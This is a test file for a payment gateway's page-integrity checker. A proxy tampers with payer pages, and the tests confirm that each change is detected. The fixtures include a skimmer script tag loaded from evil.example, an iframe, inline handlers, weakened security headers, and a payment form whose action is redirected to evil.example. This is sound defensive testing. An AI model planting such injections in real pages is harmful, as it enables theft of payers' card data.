import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { checkPages } from '../../../src/commands/pages/check-pages.ts';
import { reportPages } from '../../../src/commands/pages/pages.ts';
import { listInventory } from '../../../src/commands/pages/script-inventory.ts';
import { createReusableLink } from '../../../src/domain/reusable-links/create-link.ts';
import { reusablePath } from '../../../src/domain/reusable-links/reusable-link.ts';
import { checkUp } from '../../../src/operations/health/check-up.ts';
import { readHealth } from '../../../src/operations/health/health.ts';
import { pageAssets } from '../../../src/payer-pages/frame/assets.ts';
import { newId } from '../../../src/platform/primitives/values/id.ts';
import {
  type Passing,
  startTamperingProxy,
  type Tamper,
} from '../../support/doubles/network/tampering-proxy.ts';
import { openSubscriber } from '../../support/world/billing/subscriptions.ts';
import { paidPse } from '../../support/world/disputes/reversals.ts';
import { startTestGateway, type TestGateway } from '../../support/world/gateway/test-gateway.ts';
import { createLink } from '../../support/world/shop/payer.ts';

let shop: TestGateway;
let proxy: Awaited<ReturnType<typeof startTamperingProxy>>;
let link: string;
let reusable: string;
let reversal: string;

beforeAll(async () => {
  shop = await startTestGateway();
  proxy = await startTamperingProxy(shop.app);
  shop.gateway.baseUrl = proxy.url;
  const subscriber = await openSubscriber(shop);
  await subscriber.subscribe();
  link = new URL((await createLink(subscriber.client)).payment_method.url).pathname;
  const merchant = await shop.merchant();
  reversal = `/reversion/${(await paidPse(shop, merchant.client)).handle}`;
  const input = { amount: 25_000, description: 'Torta' };
  reusable = reusablePath(
    (await createReusableLink(shop.gateway, merchant.merchant, newId('reusableLink'), input)).id,
  );
});
afterAll(async () => {
  await proxy.close();
  await shop.close();
});
beforeEach(() => proxy.set(passing => passing));
afterEach(() => vi.restoreAllMocks());

const check = async () => (await checkPages(shop.gateway)).differences;
const inHtml =
  (find: string, replace: string, only?: string): Tamper =>
  passing =>
    passing.headers['content-type']?.startsWith('text/html') && (only ?? passing.path) === passing.path
      ? { ...passing, body: Buffer.from(passing.body.toString().replace(find, replace)) }
      : passing;
const header =
  (name: string, change: (value: string | undefined) => string | undefined): Tamper =>
  passing => {
    const { [name]: value, ...headers } = passing.headers;
    const changed = change(value);
    return { ...passing, headers: changed === undefined ? headers : { ...headers, [name]: changed } };
  };
const inFile =
  (end: string): Tamper =>
  (passing: Passing) =>
    passing.path.endsWith(end)
      ? { ...passing, body: Buffer.concat([passing.body, Buffer.from('\n')]) }
      : passing;

test("this build's pages: no difference, including everything they load", async () => {
  const { differences, lookedAt } = await checkPages(shop.gateway);
  expect(differences).toEqual([]);
  // At least ten public pages, four payer pages, their style sheets and the icon.
  expect(lookedAt).toBeGreaterThanOrEqual(17);
});

const evil = '<script src="https://evil.example/skim.js"></script>';

describe('tampering in transit is found', () => {
  test.each<[string, Tamper, RegExp]>([
    ['a script', inHtml('</head>', `${evil}</head>`), /has <script src="https:\/\/evil/],
    ['an inline script', inHtml('</body>', '<script>x()</script></body>'), /has <script>, which is not ours/],
    ['a frame', inHtml('</main>', '<iframe src="//evil.example"></iframe></main>'), /has <iframe/],
    ['a handler', inHtml('<main', '<main onclick="x()"'), /has an attribute onclick=/],
    [
      'no integrity',
      inHtml(` integrity="${pageAssets().styles.integrity}"`, ''),
      /lacks <link rel="stylesheet"/,
    ],
    ['words', inHtml('<main', '<p>Paga a la cuenta 123</p><main'), /the page has been changed/],
    [
      'a weaker policy',
      header('content-security-policy', value => value?.replace("script-src 'self'", 'script-src *')),
      /header content-security-policy is "default-src 'none'; script-src \*/,
    ],
    ['no policy', header('content-security-policy', () => undefined), /content-security-policy is absent/],
    ['no frame guard', header('x-frame-options', () => undefined), /x-frame-options is absent/],
    ['a preload', header('link', () => '<https://evil.example/x.js>; rel=preload'), /header link is/],
    ['a changed style sheet', inFile('.css'), /pages-\w+\.css: contents are sha384-/],
    ['a changed status', passing => ({ ...passing, status: 200 }), /status 200, not 404/],
  ])('%s', async (_what, tamper, messages) => {
    proxy.set(tamper);
    expect((await check()).join('\n')).toMatch(messages);
  });

  test.skipIf(pageAssets().script === undefined)("the pages' script, changed by one byte", async () => {
    proxy.set(inFile('.js'));
    const found = (await check()).join('\n');
    expect(found).toMatch(/\/assets\/pages-\w+\.js: contents are sha384-/);
    expect(found).toMatch(/\/js\/v1\/fields\/field\.js: contents are sha384-/);
    expect(found).toMatch(/\/js\/v1\/recaudo\.js: contents are sha384-/);
  });

  test('the form of one payment posts elsewhere', async () => {
    proxy.set(inHtml(`action="${link}`, `action="https://evil.example${link}`, link));
    expect(await check()).toEqual([
      expect.stringMatching(/has <form[^>]*action="https:\/\/evil/),
      expect.stringMatching(/lacks <form/),
    ]);
  });

  test.each([
    ['a reusable link', () => reusable, /^\/cobro\/\w+: has <script src="https:\/\/evil/],
    // The address is the payer's secret, so the report hides it.
    ['a reversal', () => reversal, /^\/reversion\/\.\.\.: has <script src="https:\/\/evil/],
  ])('a script on the page of %s alone', async (_page, path, messages) => {
    proxy.set(inHtml('</head>', `${evil}</head>`, path()));
    expect(await check()).toEqual([expect.stringMatching(messages)]);
  });

  test('a script for browsers only: the check looks like one', async () => {
    const agents: string[] = [];
    shop.app.server.on('request', request => agents.push(request.headers['user-agent'] ?? ''));
    const { fetch } = globalThis;
    vi.spyOn(globalThis, 'fetch').mockImplementation((input, init) => {
      agents.push(new Headers(init?.headers).get('user-agent') ?? '');
      return fetch(input, init);
    });
    await check();
    expect(new Set(agents)).toEqual(new Set([expect.stringMatching(/^Mozilla\/5\.0 .*Chrome/)]));
  });
});

test('reports an address without a response', async () => {
  shop.gateway.baseUrl = 'http://127.0.0.1:9';
  const found = await check();
  shop.gateway.baseUrl = proxy.url;
  expect(found[0]).toMatch(/^\/pagar\/ck0+: cannot be fetched: /);
});

test('finds a file changed on this machine with an inventory stored elsewhere', async () => {
  const kept = new Set(listInventory().map(({ integrity }) => integrity));
  expect((await checkPages(shop.gateway, kept)).differences).toEqual([]);
  kept.delete(pageAssets().styles.integrity);
  expect((await checkPages(shop.gateway, kept)).differences).toEqual([
    expect.stringMatching(/pages-\w+\.css: sha384-\S+ is not in the inventory/),
  ]);
});

test('the command fails, the log says why, and the doctor reports it until it is fixed', async () => {
  const printed = vi.spyOn(console, 'log').mockImplementation(() => undefined);
  const logged = vi.spyOn(shop.gateway.log, 'error');
  const pages = async () =>
    checkUp(await readHealth(shop.gateway)).find(({ name }) => name === 'pages')?.problems ?? [];
  proxy.set(inHtml('</head>', `${evil}</head>`));
  expect(await reportPages(shop.gateway, {})).toBe(false);
  expect(printed.mock.calls.join('\n')).toContain('evil.example');
  expect(logged.mock.calls.length).toBeGreaterThan(0);
  expect(await pages()).toMatchObject([{ code: 'pages_changed', isWarning: false }]);
  proxy.set(passing => passing);
  expect(await reportPages(shop.gateway, { json: true })).toBe(true);
  expect(await pages()).toEqual([]);
});
